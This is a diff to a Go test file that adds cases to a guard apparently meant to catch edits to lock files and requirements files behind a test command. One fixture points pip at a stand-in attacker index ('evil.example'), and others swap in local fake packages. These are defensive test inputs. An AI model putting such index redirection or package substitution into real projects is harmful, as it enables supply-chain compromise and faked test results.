@@ -72,7 +72,7 @@ var project = world{
 	"runner/verify.mjs": "1", "src/app.js": "1", "jest.config.js": "1", "tests/unit.py": "1", "vendor/lib/lib.go": "package lib", "third_party/x/x.c": "1", "web/.npmrc": "x", "README.md": "x", "data.txt": "x",
 	"Cargo.toml": "[package]\nname = \"x\"\n\n[dependencies]\na = \"1\"\n\n[lib]\ndoctest = false\n", "src/lib.rs": "1", "pyproject.toml": "[project]\nname = \"x\"\ndependencies = [\"a\"]\n\n[tool.pytest.ini_options]\naddopts = \"-q\"\n",
 	"sub/check.sh": "1", "sub/deep/x.go": "package deep", "dir.mk": "include settings\n-include .settings\nt:\n\t$(CURDIR)/tools/in.sh\n", "settings": "A=1", "tools/in.sh": "1",
-	"may.sh": "[ -f local ] && . ./local\ntrue\n",
+	"requirements.txt": "pytest\nflask>=2\n", "may.sh": "[ -f local ] && . ./local\ntrue\n",
 }
 
 func guardOf(t *testing.T, base world, at string, commands ...string) *Guard {
@@ -166,6 +166,13 @@ func TestReset(t *testing.T) {
 		"one of Go by another name":  {"go test ./...", world{"more_test.go": "import o \"os\"; var _ = f(o.Exit)"}, nil, list("more_test.go")},
 		"one of node":                {"node --test", world{"tests/a.js": "process.exit( )"}, nil, list("tests/a.js")},
 		"a new test of node":         {"node --test", world{"tests/a.js": "process.exit(failed ? 1 : 0)"}, nil, nil},
+		"a new lock file":            {"npm test", world{"package-lock.json": `{"packages":{"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}`}, nil, nil},
+		"one of the worker's own":    {"npm ci && npm test", world{"package-lock.json": "{\n\"resolved\": \"file:fake.tgz\"\n}"}, nil, list("package-lock.json")},
+		"a link in a lock file":      {"npm ci && npm test", world{"package-lock.json": `{"resolved": "fake", "link": true}`}, nil, list("package-lock.json")},
+		"other requirements":         {"pip install -r requirements.txt && pytest", world{"requirements.txt": "pytest==8\nflask>=3 # https://pypi.org/x\n"}, nil, nil},
+		"requirements from here":     {"pip install -r requirements.txt && pytest", world{"requirements.txt": "pytest @ file:./fake\n"}, list("requirements.txt"), nil},
+		"requirements from a mirror": {"pip install -r requirements.txt && pytest", world{"requirements.txt": "--index-url https://evil.example/simple\npytest\n"}, list("requirements.txt"), nil},
+		"a directory required":       {"pip install -r requirements.txt && pytest", world{"requirements.txt": "./fake\n"}, list("requirements.txt"), nil},
 		"a file became a directory":  {"sh check.sh", world{"check.sh": "", "check.sh/x": "x"}, list("check.sh"), list("check.sh/x")},
 	} {
 		after := project.with(c.edits)
@@ -261,7 +268,7 @@ func TestMixedFiles(t *testing.T) {
 
 // TestSearchEnds: files that name one another, and a file that cannot be read, keep nobody waiting.
 func TestSearchEnds(t *testing.T) {
-	base := world{"a.sh": "sh b.sh; sh a.sh", "b.sh": "sh a.sh; ./big.sh", "big.sh": strings.Repeat("x ", ReadLimit)}
+	base := world{"a.sh": "sh b.sh; sh a.sh", "b.sh": "sh a.sh; ./big.sh", "big.sh": strings.Repeat("x ", scriptLimit)}
 	g := guardOf(t, base, ".", "sh a.sh", "sh none.sh", "")
 	if !g.named["a.sh"] || !g.named["b.sh"] || !g.named["big.sh"] || len(g.named) != 3 {
 		t.Errorf("%v", g.named)
